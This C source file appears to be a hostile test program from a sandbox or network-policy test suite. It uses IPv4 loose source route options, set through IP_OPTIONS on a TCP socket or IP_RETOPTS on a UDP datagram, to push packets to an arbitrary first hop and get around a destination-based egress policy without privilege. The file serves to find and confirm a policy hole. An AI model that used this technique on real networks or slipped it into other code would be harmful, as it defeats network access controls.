/* hostile_route.c: class 10 of issue 25 (found while closing the others): a source route.
 *
 * IPv4 options with a loose source route (LSRR) send every packet of a socket to the route's first hop, whatever
 * its destination: a connect to an address the policy lets through directly (an internal service, loopback) puts
 * its SYN on the wire to any address the program names as the first hop. The same as ancillary data of one
 * datagram (IP_RETOPTS). No raw socket, no privilege.
 *
 *   hostile_route connect HOP DEST PORT     TCP: IP_OPTIONS with LSRR via HOP, then connect(DEST:PORT)
 *   hostile_route datagram HOP DEST PORT    UDP: sendmsg to DEST:PORT with IP_RETOPTS (LSRR via HOP)
 */
#include "hostile.h"

#include <netinet/ip.h>

/* LSRR through HOP: type 131, length 7, pointer 4, one address; the padding NOP makes 8 bytes. */
static size_t lsrr(const char *hop, uint8_t opt[8])
{
	struct in_addr a;
	if (inet_pton(AF_INET, hop, &a) != 1) {
		fprintf(stderr, "not an IPv4 address: %s\n", hop);
		exit(2);
	}
	opt[0] = IPOPT_LSRR;
	opt[1] = 7;
	opt[2] = 4;
	memcpy(opt + 3, &a, 4);
	opt[7] = IPOPT_NOP;
	return 8;
}

int main(int argc, char **argv)
{
	if (argc != 5 || (strcmp(argv[1], "connect") != 0 && strcmp(argv[1], "datagram") != 0)) {
		fprintf(stderr, "usage: hostile_route connect|datagram HOP DEST PORT\n");
		return 2;
	}
	hostile_start(argc, argv);
	uint8_t opt[8];
	size_t optlen = lsrr(argv[2], opt);
	struct sockaddr_in to;
	hostile_addr(argv[3], argv[4], &to);
	if (strcmp(argv[1], "connect") == 0) {
		int fd = (int)step_libc("socket(AF_INET, SOCK_STREAM)", socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0));
		if (fd < 0)
			return 1;
		step_libc("setsockopt(IP_OPTIONS, LSRR)", setsockopt(fd, IPPROTO_IP, IP_OPTIONS, opt, (socklen_t)optlen));
		step_libc("connect", connect(fd, (struct sockaddr *)&to, sizeof(to)));
		struct pollfd p = { .fd = fd, .events = POLLOUT };
		poll(&p, 1, 1500); /* the SYN (and its retry) go out meanwhile */
		return 0;
	}
	int fd = (int)step_libc("socket(AF_INET, SOCK_DGRAM)", socket(AF_INET, SOCK_DGRAM, 0));
	if (fd < 0)
		return 1;
	union {
		struct cmsghdr h;
		uint8_t buf[CMSG_SPACE(sizeof(opt))];
	} ctl;
	memset(&ctl, 0, sizeof(ctl));
	static char data[] = "hostile source-routed datagram\n";
	struct iovec iov = { .iov_base = data, .iov_len = sizeof(data) - 1 };
	struct msghdr m = { .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov, .msg_iovlen = 1,
			    .msg_control = ctl.buf, .msg_controllen = sizeof(ctl.buf) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = IPPROTO_IP;
	c->cmsg_type = IP_RETOPTS;
	c->cmsg_len = CMSG_LEN(optlen);
	memcpy(CMSG_DATA(c), opt, optlen);
	step_libc("sendmsg(IP_RETOPTS, LSRR)", sendmsg(fd, &m, 0));
	return 0;
}
